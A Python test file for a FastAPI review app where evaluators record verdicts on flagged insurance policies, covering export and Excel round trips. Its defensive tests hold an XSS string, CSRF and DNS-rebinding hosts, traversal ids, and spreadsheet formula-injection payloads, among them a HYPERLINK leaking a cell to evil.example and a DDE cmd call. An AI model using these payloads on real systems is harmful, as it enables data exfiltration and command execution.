"""Evaluator review: the web app (TestClient), the verdict history, export and the Excel round trip."""
import datetime as dt
import re
import shutil
import sqlite3
import threading
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from datasets.synth import write_submission
from scoring.cli import app as cli
from scoring import load_submission
from scoring import score as run_score
from scoring.review.app import create_app, policy_url
from scoring.review.exchange import SHEET, export_inspections, import_workbook, write_workbook
from scoring.review.run import ReviewRun
from scoring.review.store import ReviewStore

from ..helpers import set_cell, world

HOSTILE = "<script>alert(1)</script>"
SLASHED_FROM = world(600, 21).tables["policies"]["policy_id"].iloc[1]
SLASHED = "P/2023/0001?#%"
DOTTED_TO = world(600, 21).tables["policies"]["policy_id"].iloc[2]
DOTTED_FROM = world(600, 21).tables["policies"]["policy_id"].iloc[3]
DOTTED = f"Z/../{DOTTED_TO}"  # a browser resolves /policy/Z/../X to /policy/X


@pytest.fixture(scope="module")
def scored(tmp_path_factory):
    base = tmp_path_factory.mktemp("review")
    sub = write_submission(world(600, 21), base / "sub")
    set_cell(sub, "policies", 0, "enterprise_name", HOSTILE)
    for table in ("policies", "services", "inspections"):  # an id with slashes, as some insurers number policies
        df = pd.read_csv(sub / f"{table}.csv", dtype=str, keep_default_na=False)
        df["policy_id"] = df["policy_id"].replace({SLASHED_FROM: SLASHED, DOTTED_FROM: DOTTED})
        df.to_csv(sub / f"{table}.csv", index=False)
    out = base / "run"
    run_score(sub, out)
    return sub, out


@pytest.fixture
def run_dir(scored, tmp_path):
    """A fresh copy of the finished run for each test (its own review database)."""
    sub, out = scored
    dest = tmp_path / "run"
    shutil.copytree(out, dest)
    return dest


def client(app, **kw):
    """A test client that talks to the app as a browser on this machine does (Host: 127.0.0.1)."""
    return TestClient(app, base_url="http://127.0.0.1", **kw)


def scores(run_dir):
    return pd.read_csv(run_dir / "policy_scores.csv", dtype=str, keep_default_na=False)


def csrf(client, pid):
    page = client.get(policy_url(pid))
    return re.search(r'name="csrf_token" value="([0-9a-f]+)"', page.text).group(1)


def post(client, pid, token=None, **fields):
    data = {"outcome": "missing", "selection": "targeted", "inspection_date": "2025-12-01",
            "inspector_org": "某安全评价公司", "reviewer": "张三", "notes": ""}
    data.update(fields)
    data["csrf_token"] = token if token is not None else csrf(client, pid)
    return client.post(policy_url(pid) + "/review", data=data, follow_redirects=False)


def listed(html):
    return [bytes.fromhex(k).decode("utf-8") for k in re.findall(r'<td><a href="/policy/([0-9a-f]+)">', html)]


def test_list_is_flagged_policies_in_priority_order(run_dir):
    c = client(create_app(run_dir))
    s = scores(run_dir)
    flagged = s[s["flag"] != ""].assign(p=lambda d: d["priority"].astype(int)).sort_values("p")
    ids = listed(c.get("/").text)
    assert ids == list(flagged["policy_id"][:50])
    last = (len(flagged) - 1) // 50 + 1
    tail = listed(c.get(f"/?page_no={last}").text)
    assert tail == list(flagged["policy_id"][(last - 1) * 50:])


def test_filters_narrow_the_list(run_dir):
    c = client(create_app(run_dir))
    s = scores(run_dir).set_index("policy_id")
    insurer = s.loc[s["flag"] != "", "insurer_id"].mode()[0]
    ids = listed(c.get(f"/?insurer={insurer}").text)
    assert ids and all(s.at[i, "insurer_id"] == insurer and s.at[i, "flag"] for i in ids)
    ids = listed(c.get("/?flag=poor_quality").text)
    assert ids and all(s.at[i, "flag"] == "poor_quality" for i in ids)
    code = "INTEGRITY_DUPLICATE_PHOTO"
    ids = listed(c.get(f"/?flag=all&rule={code}").text)
    assert ids and all(code in s.at[i, "rule_codes"].split(";") for i in ids)
    region = s["region_code"].iloc[0][:2]
    ids = listed(c.get(f"/?flag=all&region={region}").text)
    assert ids and all(s.at[i, "region_code"].startswith(region) for i in ids)
    ind = s["industry"].iloc[0]
    ids = listed(c.get(f"/?flag=unflagged&industry={ind}").text)
    assert ids and all(s.at[i, "industry"] == ind and not s.at[i, "flag"] for i in ids)


def test_policy_page_shows_evidence(run_dir):
    c = client(create_app(run_dir))
    s = scores(run_dir)
    pid = s.loc[(s["flag"] != "") & (s["rule_codes"] != ""), "policy_id"].iloc[0]
    html = c.get(policy_url(pid)).text
    findings = pd.read_csv(run_dir / "findings.csv", dtype=str, keep_default_na=False)
    mine = findings[findings["policy_id"] == pid]
    assert mine["clause"].iloc[0] in html and mine["rule_code"].iloc[0] in html
    assert "<svg" in html  # the explanation plot
    n_services = (world(600, 21).tables["services"]["policy_id"] == pid).sum()
    assert f"服务记录（{n_services}）" in html
    assert c.get("/policy/NO-SUCH").status_code == 404


def test_record_change_and_export_keep_history(run_dir, tmp_path):
    c = client(create_app(run_dir))
    pid = scores(run_dir)["policy_id"].iloc[0]
    r = post(c, pid, outcome="poor_quality", selection="random", notes="现场无培训签到表")
    assert r.status_code == 303 and r.headers["location"].endswith("saved=1")
    assert post(c, pid, outcome="missing", selection="random", notes="现场无培训签到表").status_code == 303
    assert post(c, pid, outcome="missing", selection="random", notes="现场无培训签到表").status_code == 303  # no change
    store = ReviewStore(run_dir / "review.sqlite")
    h = store.history(pid)
    assert [e["outcome"] for e in h] == ["poor_quality", "missing"]
    assert h[1]["supersedes"] == h[0]["id"] and h[1]["changed"] == ["outcome"] and h[1]["reviewer"] == "张三"
    with sqlite3.connect(run_dir / "review.sqlite") as con, pytest.raises(sqlite3.DatabaseError, match="append-only"):
        con.execute("UPDATE review_events SET outcome = 'adequate'")
    out = tmp_path / "inspections.csv"
    assert export_inspections(store, out) == 1
    exp = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert exp.loc[0, "policy_id"] == pid and exp.loc[0, "outcome"] == "missing" and exp.loc[0, "selection"] == "random"
    assert c.get("/export.csv").text.count("\n") == 2
    page = c.get(policy_url(pid)).text
    assert "复核历史（2）" in page


def test_invalid_verdict_is_refused_with_reasons(run_dir):
    c = client(create_app(run_dir))
    pid = scores(run_dir)["policy_id"].iloc[0]
    future = (dt.date.today() + dt.timedelta(days=3)).isoformat()
    r = post(c, pid, outcome="fine", inspection_date=future, inspector_org="")
    assert r.status_code == 422
    assert "请从列表中选择" in r.text and "晚于今天" in r.text and "不能为空" in r.text
    assert ReviewStore(run_dir / "review.sqlite").count() == 0


def test_token_is_required_when_configured(run_dir):
    c = client(create_app(run_dir, token="s3cret-token"))
    assert c.get("/").status_code == 401
    assert c.get("/", headers={"Authorization": "Bearer wrong"}).status_code == 401
    assert c.get("/export.csv").status_code == 401
    assert c.get("/", headers={"Authorization": "Bearer s3cret-token"}).status_code == 200
    r = c.get("/stats?token=s3cret-token", follow_redirects=False)
    assert r.status_code == 303 and "token" not in r.headers["location"]
    assert c.get("/stats").status_code == 200  # the cookie carries it now


def test_csrf_is_refused(run_dir):
    c = client(create_app(run_dir))
    pid = scores(run_dir)["policy_id"].iloc[0]
    assert post(c, pid, token="").status_code == 403
    other = client(create_app(run_dir))
    foreign = csrf(other, pid)  # a token of another session
    assert post(c, pid, token=foreign).status_code == 403
    good = csrf(c, pid)
    r = c.post(policy_url(pid) + "/review", data={"csrf_token": good, "outcome": "missing", "inspection_date": "2025-12-01",
                                             "inspector_org": "x", "reviewer": "y"},
               headers={"Origin": "http://evil.example"}, follow_redirects=False)
    assert r.status_code == 403
    assert ReviewStore(run_dir / "review.sqlite").count() == 0


def test_upload_is_refused_before_anything_is_written(run_dir, monkeypatch):
    """A multipart body (which the form parser would spool to disk) or an oversized form is refused
    before the form is parsed: no temporary file, no verdict."""
    import tempfile

    import starlette.formparsers

    from scoring.review import app as review_app

    limit = getattr(review_app, "FORM_LIMIT", 64 * 1024)
    spooled = []
    monkeypatch.setattr(starlette.formparsers, "SpooledTemporaryFile",
                        lambda *a, **k: spooled.append(1) or tempfile.SpooledTemporaryFile(*a, **k))
    c = client(create_app(run_dir))
    pid = scores(run_dir)["policy_id"].iloc[0]
    token = csrf(c, pid)
    r = c.post(policy_url(pid) + "/review", data={"csrf_token": token, "outcome": "missing"},
               files={"big": ("big.bin", b"\0" * (2 << 20))}, follow_redirects=False)
    assert r.status_code == 415 and not spooled
    r = post(c, pid, token=token, notes="注" * limit)
    assert r.status_code == 413
    assert ReviewStore(run_dir / "review.sqlite").count() == 0
    assert post(c, pid, token=token, notes="正常备注").status_code == 303


def test_hostile_text_is_escaped(run_dir):
    c = client(create_app(run_dir))
    pid = world(600, 21).tables["policies"]["policy_id"].iloc[0]
    assert post(c, pid, notes=HOSTILE, inspector_org=HOSTILE).status_code == 303
    for html in (c.get(policy_url(pid)).text, c.get("/?flag=all&status=reviewed").text):
        assert HOSTILE not in html
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "script-src" not in c.get("/").headers["content-security-policy"]  # scripts: default-src 'none'


def test_concurrent_verdicts_lose_nothing(run_dir):
    app = create_app(run_dir)
    ids = list(scores(run_dir)["policy_id"][:10])
    errors = []

    def reviewer(name, outcome):
        c = client(app)
        for pid in ids:
            for date in ("2025-11-01", "2025-11-02"):
                r = post(c, pid, outcome=outcome, reviewer=name, inspection_date=date)
                if r.status_code != 303:
                    errors.append(r.status_code)

    threads = [threading.Thread(target=reviewer, args=a) for a in (("甲", "missing"), ("乙", "adequate"))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors
    store = ReviewStore(run_dir / "review.sqlite")
    # every post changed the policy's current verdict (date or outcome differ), so each is an event
    assert store.count() == 2 * 2 * len(ids)
    assert len(store.current()) == len(ids)


def test_stats_count_confirmations(run_dir):
    c = client(create_app(run_dir))
    s = scores(run_dir)
    miss = list(s.loc[s["flag"] == "missing", "policy_id"][:3])
    assert post(c, miss[0], outcome="missing").status_code == 303
    assert post(c, miss[1], outcome="adequate").status_code == 303
    assert post(c, miss[2], outcome="poor_quality").status_code == 303
    html = c.get("/stats").text
    row = re.search(r"<tr><td>服务缺失</td>(.*?)</tr>", html).group(1)
    assert re.findall(r'class="num">([^<]+)<', row) == ["3", "1", "1", "1", "33.3%"]
    # the rules a reviewed policy had are named in Chinese, the code beside
    rules = html[html.index("<h2>按规则</h2>"):]
    codes = re.findall(r'<small class="note">([A-Z_]+)</small>', rules)
    assert codes
    f = pd.read_csv(run_dir / "findings.csv", encoding="utf-8-sig")
    names = dict(zip(f["rule_code"], f["rule_name_zh"]))
    for code in codes:
        assert f"<td>{names[code]}<br><small" in rules


def test_excel_round_trip(run_dir, scored, tmp_path):
    sub, _ = scored
    run, store = ReviewRun.open(run_dir), ReviewStore(run_dir / "review.sqlite")
    book = tmp_path / "review.xlsx"
    n = write_workbook(run, store, book)
    s = scores(run_dir)
    assert n == (s["flag"] != "").sum()
    wb = openpyxl.load_workbook(book)
    ws = wb[SHEET]
    header = [c.value for c in ws[1]]
    col = {h: i + 1 for i, h in enumerate(header)}
    lists = {str(dv.sqref): dv.formula1 for dv in ws.data_validations.dataValidation}
    assert any("服务缺失" in f for f in lists.values()) and any("随机抽查" in f for f in lists.values())
    ids = [ws.cell(row=r, column=col["保单号"]).value for r in range(2, 7)]

    def fill(r, outcome, date, org="评价所", sel="随机抽查"):
        ws.cell(row=r, column=col["核查结论"], value=outcome)
        ws.cell(row=r, column=col["抽查方式"], value=sel)
        ws.cell(row=r, column=col["核查日期"], value=date)
        ws.cell(row=r, column=col["核查单位"], value=org)

    fill(2, "服务缺失", dt.date(2025, 11, 3))
    fill(3, "poor_quality", "2025-11-04", sel="targeted")
    fill(4, "差不多", dt.date(2025, 11, 5))  # bad verdict
    fill(5, "服务到位", "2025-02-30")  # bad date
    ws.append([None] * (col["保单号"] - 1) + ["P-NOT-IN-RUN"] + [None] * (col["核查编号"] - col["保单号"] - 1)
              + ["RV-X", "服务缺失", "重点抽查", dt.date(2025, 11, 6), "评价所"])
    wb.save(book)
    res = import_workbook(run, store, book, reviewer="李四")
    assert res.balanced and res.rows_read == n + 1
    assert (res.recorded, res.unchanged, len(res.rejected)) == (2, 0, 3)
    assert res.not_reviewed == n - 4
    rej = res.rejected.set_index("row")
    assert rej.at[4, "column"] == "outcome" and "差不多" in rej.at[4, "message_zh"]
    assert "服务到位、服务质量差、服务缺失" in rej.at[4, "message_zh"] and "核查结论（outcome）" in rej.at[4, "message_zh"]
    notes = openpyxl.load_workbook(book)["说明"]
    command = next(c.value for c in notes["A"] if c.value and c.value.startswith("Import: "))[len("Import: "):]
    from typer.testing import CliRunner

    from scoring.cli import app

    args = [str(book) if a == "this-file.xlsx" else "王五" if a == "NAME" else a for a in command.split()[1:]]
    r = CliRunner().invoke(app, args)  # the command as the sheet writes it runs
    assert r.exit_code == 0, r.output
    assert rej.at[5, "column"] == "inspection_date"
    assert rej.at[n + 2, "column"] == "policy_id"
    cur = store.current().set_index("policy_id")
    assert cur.at[ids[0], "outcome"] == "missing" and cur.at[ids[0], "selection"] == "random"
    assert cur.at[ids[1], "outcome"] == "poor_quality" and cur.at[ids[1], "source"] == "workbook:review.xlsx"
    # importing the same file again changes nothing
    again = import_workbook(run, store, book, reviewer="李四")
    assert (again.recorded, again.unchanged) == (0, 2)
    # the exported verdicts are a valid inspections table of the submission
    labelled = tmp_path / "labelled"
    shutil.copytree(sub, labelled)
    (labelled / "inspections.csv").unlink(missing_ok=True)
    export_inspections(store, labelled / "inspections.csv")
    back = load_submission(labelled)
    assert back.counts["inspections"].rows_rejected == 0
    got = back["inspections"].set_index("policy_id")
    assert got.at[ids[0], "outcome"] == "missing" and got.at[ids[0], "selection"] == "random"


def test_cli_review_commands(run_dir, tmp_path):
    runner = CliRunner()
    r = runner.invoke(cli, ["review", str(run_dir), "--host", "0.0.0.0", "--token", "short"])
    assert r.exit_code == 2 and "--token" in r.output and "至少需要 16" in r.output
    book = tmp_path / "r.xlsx"
    r = runner.invoke(cli, ["review", "workbook", str(run_dir), "--out", str(book)])
    assert r.exit_code == 0 and book.exists()
    wb = openpyxl.load_workbook(book)
    ws = wb[SHEET]
    col = {c.value: i + 1 for i, c in enumerate(ws[1])}
    ws.cell(row=2, column=col["核查结论"], value="服务质量差")
    ws.cell(row=2, column=col["核查日期"], value=dt.date(2025, 10, 9))
    ws.cell(row=2, column=col["核查单位"], value="评价所")
    wb.save(book)
    r = runner.invoke(cli, ["review", "import", str(run_dir), str(book), "--reviewer", "王五"])
    assert r.exit_code == 0 and "记录 1" in r.output
    out = tmp_path / "i.csv"
    r = runner.invoke(cli, ["review", "export", str(run_dir), "--out", str(out)])
    assert r.exit_code == 0
    assert pd.read_csv(out)["outcome"].tolist() == ["poor_quality"]


def test_labelled_export_is_a_submission_ready_for_retraining(run_dir, scored, tmp_path):
    sub, _ = scored
    c = client(create_app(run_dir, submission=sub))
    ids = list(scores(run_dir)["policy_id"][:3])
    for pid, outcome in zip(ids, ("missing", "adequate", "poor_quality")):
        assert post(c, pid, outcome=outcome, selection="random").status_code == 303
    dest = tmp_path / "labelled"
    r = CliRunner().invoke(cli, ["review", "export", str(run_dir), "--labelled", str(dest), "--submission", str(sub)])
    assert r.exit_code == 0, r.output
    before = load_submission(sub)
    after = load_submission(dest)
    assert after.counts["inspections"].rows_rejected == 0
    assert len(after["inspections"]) == len(before["inspections"]) + 3
    assert len(after["policies"]) == len(before["policies"]) and len(after["services"]) == len(before["services"])
    mine = after["inspections"][after["inspections"]["inspection_id"].str.startswith("RV-")].set_index("policy_id")
    assert mine.loc[ids, "outcome"].tolist() == ["missing", "adequate", "poor_quality"]
    assert set(mine["selection"]) == {"random"}
    # a second export into the same folder is refused rather than mixing two exports
    r = CliRunner().invoke(cli, ["review", "export", str(run_dir), "--labelled", str(dest), "--submission", str(sub)])
    assert r.exit_code == 1 and "非空" in r.output


FORMULAS = ['=HYPERLINK("http://evil.example/?"&B2,"点此查看")', "=1+1", "=cmd|' /C calc'!A0"]


def test_workbook_writes_formula_like_text_as_text_and_reads_it_back(run_dir, tmp_path):
    """Free text that starts with "=" (notes, inspector organisation, a name) is stored as text, never
    as a live formula, and comes back unchanged on import and in the next workbook."""
    c = client(create_app(run_dir))
    s = scores(run_dir)
    pid = s.loc[s["flag"] != "", "policy_id"].iloc[0]
    assert post(c, pid, inspector_org=FORMULAS[2], notes=FORMULAS[0]).status_code == 303
    run, store = ReviewRun.open(run_dir), ReviewStore(run_dir / "review.sqlite")
    book = tmp_path / "review.xlsx"
    write_workbook(run, store, book)
    wb = openpyxl.load_workbook(book)
    for ws in wb.worksheets:
        assert not [cell.coordinate for row in ws.iter_rows() for cell in row if cell.data_type == "f"]
    ws = wb[SHEET]
    header = [cell.value for cell in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[header.index("保单号")].value == pid)
    assert row[header.index("备注")].value == FORMULAS[0]
    assert row[header.index("核查单位")].value == FORMULAS[2]
    row[header.index("备注")].value = FORMULAS[1]  # edited by the evaluator, saved by Excel
    row[header.index("备注")].data_type = "s"
    wb.save(book)
    import_workbook(run, store, book, reviewer="李四")
    assert store.current().set_index("policy_id").at[pid, "notes"] == FORMULAS[1]
    again = tmp_path / "again.xlsx"
    write_workbook(run, store, again)
    cells = [cell for row in openpyxl.load_workbook(again)[SHEET].iter_rows() for cell in row]
    assert FORMULAS[1] in [cell.value for cell in cells] and not [cell for cell in cells if cell.data_type == "f"]


@pytest.mark.parametrize("host,token,status", [
    ("evil.example", None, 421), ("evil.example:8000", None, 421), ("127.0.0.1:8000", None, 200),
    ("localhost", None, 200), ("[::1]:8000", None, 200), ("review.example.gov.cn", "t0k", 200),
    ("evil.example", "t0k", 421),
])
def test_only_bound_host_names_are_answered(run_dir, host, token, status):
    """A DNS-rebinding page reaches the loopback app under its own name and is refused."""
    app = create_app(run_dir, token=token, host="review.example.gov.cn" if token else "127.0.0.1")
    c = TestClient(app, base_url=f"http://{host}")
    r = c.get("/" + (f"?token={token}" if token else ""), follow_redirects=False)
    assert r.status_code in ((200, 303) if status == 200 else (status,)), r.text[:200]
    if status == 421:
        assert "Host" in r.text and "主机名" in r.text


@pytest.mark.parametrize("host", ["127.0.0.1:8765.evil.com", "127.0.0.1@evil.com", "127.0.0.1, evil.com", "127.0.0.1:80:80",
                                  "[::1]evil", "localhost.", "127.0.0.1 evil.com"])
@pytest.mark.parametrize("token", [None, "a-token-of-24-characters"])
def test_a_host_header_that_is_not_one_name_is_refused(run_dir, host, token):
    app = create_app(run_dir, token=token, host="0.0.0.0" if token else "127.0.0.1")
    r = client(app).get("/" + (f"?token={token}" if token else ""), headers={"host": host}, follow_redirects=False)
    assert r.status_code == 421, (host, r.status_code)


def test_an_id_with_slashes_can_be_reviewed(run_dir):
    """Ids holding / ? # % open, take a verdict and redirect back to their own page."""
    assert SLASHED in set(scores(run_dir)["policy_id"])
    c = client(create_app(run_dir))
    page = c.get(policy_url(SLASHED))
    assert page.status_code == 200 and "P/2023/0001?#%" in page.text
    token = re.search(r'name="csrf_token" value="([0-9a-f]+)"', page.text).group(1)
    action = re.search(r'<form method="post" action="([^"]+)"', page.text).group(1)
    r = c.post(action, data={"outcome": "missing", "selection": "targeted", "inspection_date": "2025-12-01",
                             "inspector_org": "某安全评价公司", "reviewer": "张三", "notes": "", "csrf_token": token},
               follow_redirects=True)
    assert r.status_code == 200 and "P/2023/0001?#%" in r.text
    assert ReviewStore(run_dir / "review.sqlite").current().set_index("policy_id").at[SLASHED, "outcome"] == "missing"


def test_review_speaks_beijing_time_remembers_the_reviewer_and_warns_of_older_verdicts(run_dir):
    import json

    from scoring.review.app import beijing, earlier_verdicts

    assert beijing("2025-11-03T09:04:05+00:00") == "2025-11-03 17:04:05"
    c = client(create_app(run_dir))
    pid, other = scores(run_dir)["policy_id"].iloc[:2]
    assert post(c, pid, reviewer="张三", inspector_org="某安全评价公司").status_code == 303
    page = c.get(policy_url(pid)).text
    recorded = ReviewStore(run_dir / "review.sqlite").history(pid)[-1]["recorded_at"]
    assert beijing(recorded) in page and "北京时间" in page
    form = c.get(policy_url(other)).text  # the next policy's form starts with who and for whom
    assert 'value="张三"' in form and 'value="某安全评价公司"' in form
    run = json.loads((run_dir / "run.json").read_text(encoding="utf-8"))
    store = ReviewStore(run_dir / "review.sqlite")
    assert "1 件保单" in earlier_verdicts(store, run) and "之前" not in earlier_verdicts(store, run)
    rescored = {**run, "finished_at": "2999-01-01T00:00:00+00:00"}  # the run directory scored again later
    assert "针对的是旧的评分结果" in earlier_verdicts(store, rescored)


def test_the_list_prints_in_landscape_with_its_filters_and_a_readable_rules_column(run_dir):
    """Printed in portrait, the eleven columns squeezed the rule findings to four characters a
    line (four policies a page); on paper the list goes landscape, keeps the filters it was cut
    by and drops the navigation."""
    import re

    html = client(create_app(run_dir)).get("/").text
    assert re.search(r"@page\s*\{\s*size:\s*A4 landscape", html)
    assert 'class="note rules"' in html and re.search(r"td\.rules\s*\{\s*min-width:\s*16em", html)
    printed = html[html.index("@media print"):]
    printed = printed[:printed.index("</style>")]
    assert "header a" in printed and "form.filters button" in printed and "form.filters," not in printed
    assert "@page" not in client(create_app(run_dir)).get("/stats").text  # other pages keep the default


def test_policy_findings_fit_their_half_of_the_page(run_dir):
    """A 16-character photo hash and an 11-character service id pushed the findings table past
    its column and under the verdict form at 1366 px: the table has fixed columns and breaks
    long tokens."""
    c = client(create_app(run_dir))
    s = scores(run_dir)
    html = c.get(policy_url(s.loc[s['flag'] != '', 'policy_id'].iloc[0])).text
    table = html[html.index("<h2>规则发现"):]
    assert table.index('<table class="fit">') < table.index("<th>规则</th>")
    widths = [int(w) for w in re.findall(r'<col style="width:(\d+)%">', table.split("</colgroup>")[0])]
    assert len(widths) == 6 and sum(widths) == 100
    assert re.search(r"table\.fit td, table\.fit th \{[^}]*overflow-wrap: anywhere", html)


@pytest.mark.parametrize("pid", [DOTTED, DOTTED_TO, SLASHED])
def test_a_verdict_lands_on_the_policy_whose_page_it_came_from(run_dir, pid):
    """The link and the form of a policy whose id holds /../ stay on that policy: the id travels
    in hexadecimal, and a form naming another policy than its page is refused."""
    c = client(create_app(run_dir))
    page = c.get(policy_url(pid))
    assert page.status_code == 200
    action = re.search(r'<form method="post" action="([^"]+)"', page.text).group(1)
    assert "/.." not in action and "/../" not in "".join(re.findall(r'href="([^"]+)"', page.text))
    token = re.search(r'name="csrf_token" value="([0-9a-f]+)"', page.text).group(1)
    r = c.post(action, data={"outcome": "poor_quality", "selection": "targeted", "inspection_date": "2025-12-01",
                             "inspector_org": "评价所", "reviewer": "张三", "notes": "", "csrf_token": token,
                             "policy_id": pid}, follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"].startswith(policy_url(pid))
    cur = ReviewStore(run_dir / "review.sqlite").current()
    assert cur["policy_id"].tolist() == [pid]
    other = DOTTED_TO if pid != DOTTED_TO else DOTTED
    r = c.post(action, data={"outcome": "missing", "selection": "targeted", "inspection_date": "2025-12-01",
                             "inspector_org": "评价所", "reviewer": "张三", "notes": "", "csrf_token": token,
                             "policy_id": other}, follow_redirects=False)
    assert r.status_code == 400 and ReviewStore(run_dir / "review.sqlite").count() == 1


def test_a_flagged_policy_whose_id_holds_a_quote_keeps_its_explanation(run_dir):
    """The offset index reads each line's id as JSON does: an id with " or \\ finds its plot."""
    import json

    s = scores(run_dir)
    pid = s.loc[s["flag"] != "", "policy_id"].iloc[0]
    odd = 'P"引号\\' + pid
    s.loc[s["policy_id"] == pid, "policy_id"] = odd
    s.to_csv(run_dir / "policy_scores.csv", index=False, encoding="utf-8-sig")
    text = (run_dir / "explanations.jsonl").read_text(encoding="utf-8")
    quoted = json.dumps(pid, ensure_ascii=False)
    (run_dir / "explanations.jsonl").write_text(text.replace(quoted, json.dumps(odd, ensure_ascii=False), 1), encoding="utf-8")
    run = ReviewRun.open(run_dir)
    assert run.explanation(odd) is not None and run.explanation(odd)["policy_id"] == odd
    page = client(create_app(run_dir)).get(policy_url(odd))
    assert page.status_code == 200 and "<svg" in page.text


@pytest.mark.parametrize("name", ["\u200b\u200b", "张\u202e三", "李\x00四", "王\u2066五", "\u3164", "\u2800", "\u034f", "李\ufe0f"])
def test_a_reviewer_name_with_invisible_characters_is_refused(run_dir, name):
    c = client(create_app(run_dir))
    pid = scores(run_dir)["policy_id"].iloc[0]
    r = post(c, pid, reviewer=name)
    assert r.status_code == 422 and ("不可见或控制字符" in r.text or "没有可见的字符" in r.text)
    assert ReviewStore(run_dir / "review.sqlite").count() == 0


def test_the_app_follows_a_run_scored_again_while_it_serves(scored, run_dir):
    """scoring score into the directory the app serves: every page answers from the new run."""
    sub, _ = scored
    c = client(create_app(run_dir))
    s = scores(run_dir)
    flagged = s.loc[s["flag"] != "", "policy_id"].tolist()
    assert c.get(policy_url(flagged[0])).status_code == 200
    run_score(sub, run_dir, capacity=len(flagged) // 2)  # a shorter list: other offsets, other flags
    new = scores(run_dir)
    codes = [c.get(policy_url(pid)).status_code for pid in flagged[:40]]
    assert codes == [200] * len(codes)
    listed_now = listed(c.get("/").text)
    assert listed_now == new.loc[new["flag"] != "", "policy_id"].tolist()[:50]


def test_serving_on_a_busy_port_says_so_and_prints_no_address(run_dir):
    import socket

    busy = socket.socket()
    busy.bind(("127.0.0.1", 0))
    busy.listen()
    try:
        r = CliRunner().invoke(cli, ["review", str(run_dir), "--port", str(busy.getsockname()[1])])
    finally:
        busy.close()
    assert r.exit_code == 2 and "已被占用" in r.output and "already in use" in r.output
    assert "http://" not in r.output


def _book_cols(book):
    wb = openpyxl.load_workbook(book)
    ws = wb[SHEET]
    return wb, ws, {c.value: i + 1 for i, c in enumerate(ws[1])}


def _fill(ws, col, row, outcome="服务缺失", date=dt.date(2025, 11, 3), org="评价所", sel="重点抽查", notes=None):
    for h, v in (("核查结论", outcome), ("抽查方式", sel), ("核查日期", date), ("核查单位", org), ("备注", notes)):
        ws.cell(row=row, column=col[h], value=v)


def test_a_round_trip_keeps_untouched_verdicts_and_their_reason_opinions(run_dir, tmp_path):
    """A verdict with reason opinions saved in the app (李娜), pre-filled in the workbook, left as it
    is while other rows are filled and imported by 王芳: no event for it, its author and opinions
    stay, and the summary counts it unchanged."""
    c = client(create_app(run_dir))
    s = scores(run_dir)
    flagged = s.loc[s["flag"] != "", "policy_id"].tolist()
    first = flagged[0]
    key = next(r["key"] for r in __import__("scoring.review.app", fromlist=["x"]).reason_keys(ReviewRun.open(run_dir), first))
    assert post(c, first, reviewer="李娜", **{f"reason__{key}": "agree"}).status_code == 303
    run, store = ReviewRun.open(run_dir), ReviewStore(run_dir / "review.sqlite")
    book = tmp_path / "r.xlsx"
    write_workbook(run, store, book)
    wb, ws, col = _book_cols(book)
    rows = {ws.cell(row=r, column=col["保单号"]).value: r for r in range(2, ws.max_row + 1)}
    assert ws.cell(row=rows[first], column=col["核查结论"]).value == "服务缺失"  # pre-filled
    for pid in flagged[1:5]:
        _fill(ws, col, rows[pid], outcome="服务质量差")
    wb.save(book)
    res = import_workbook(run, store, book, reviewer="王芳")
    assert (res.recorded, res.unchanged) == (4, 1) and "记录 4，未变 1" in res.summary()
    hist = store.history(first)
    assert len(hist) == 1 and hist[0]["reviewer"] == "李娜" and hist[0]["reasons"] == {key: "agree"}
    # a changed row changes only what the workbook carries: the opinions stay
    wb, ws, col = _book_cols(book)
    ws.cell(row=rows[first], column=col["核查结论"], value="服务质量差")
    wb.save(book)
    import_workbook(run, store, book, reviewer="王芳")
    last = store.history(first)[-1]
    assert last["outcome"] == "poor_quality" and last["reviewer"] == "王芳" and last["reasons"] == {key: "agree"}
    assert last["changed"] == ["outcome"]


def test_conflicting_rows_are_rejected_and_identical_copies_count_once(run_dir, tmp_path):
    run, store = ReviewRun.open(run_dir), ReviewStore(run_dir / "review.sqlite")
    book = tmp_path / "r.xlsx"
    write_workbook(run, store, book)
    wb, ws, col = _book_cols(book)
    a, b = ws.cell(row=2, column=col["保单号"]).value, ws.cell(row=3, column=col["保单号"]).value
    _fill(ws, col, 2)
    _fill(ws, col, 3)
    last = ws.max_row
    for pid, outcome in ((a, "服务到位"), (b, "服务缺失")):  # a: a conflict; b: an identical copy
        last += 1
        ws.cell(row=last, column=col["保单号"], value=pid)
        ws.cell(row=last, column=col["核查编号"], value=f"RV-{pid}-copy")
        _fill(ws, col, last, outcome=outcome)
    wb.save(book)
    res = import_workbook(run, store, book, reviewer="王芳")
    assert res.balanced and res.recorded == 1 and res.unchanged == 1
    rej = res.rejected[res.rejected["column"] == "policy_id"]
    assert sorted(rej["row"]) == [2, last - 1] and rej["message_zh"].str.contains("另有不同的结论").all()
    assert store.current()["policy_id"].tolist() == [b]


def test_verdicts_on_another_sheet_are_reported_not_ignored(run_dir, tmp_path):
    run, store = ReviewRun.open(run_dir), ReviewStore(run_dir / "review.sqlite")
    book = tmp_path / "r.xlsx"
    write_workbook(run, store, book)
    wb, ws, col = _book_cols(book)
    copy = wb.copy_worksheet(ws)
    copy.title = "复核清单 (2)"
    _fill(copy, col, 2)
    wb.save(book)
    res = import_workbook(run, store, book, reviewer="王芳")
    assert res.ignored_sheets == (("复核清单 (2)", ws.max_row - 1),)
    assert "复核清单 (2)" in res.summary() and "未读取" in res.summary()


def test_a_large_import_is_one_transaction(run_dir, tmp_path, monkeypatch):
    """Every verdict of a workbook is recorded in one transaction: all or none."""
    run, store = ReviewRun.open(run_dir), ReviewStore(run_dir / "review.sqlite")
    book = tmp_path / "r.xlsx"
    write_workbook(run, store, book)
    wb, ws, col = _book_cols(book)
    for r in range(2, ws.max_row + 1):
        _fill(ws, col, r)
    wb.save(book)
    calls = []
    real = ReviewStore._append

    def failing(self, con, v, *a):
        calls.append(v.policy_id)
        if len(calls) == ws.max_row - 2:
            raise RuntimeError("disk gone")
        return real(self, con, v, *a)

    monkeypatch.setattr(ReviewStore, "_append", failing)
    with pytest.raises(RuntimeError):
        import_workbook(run, store, book, reviewer="王芳")
    assert store.count() == 0  # nothing half-recorded
    monkeypatch.setattr(ReviewStore, "_append", real)
    res = import_workbook(run, store, book, reviewer="王芳")
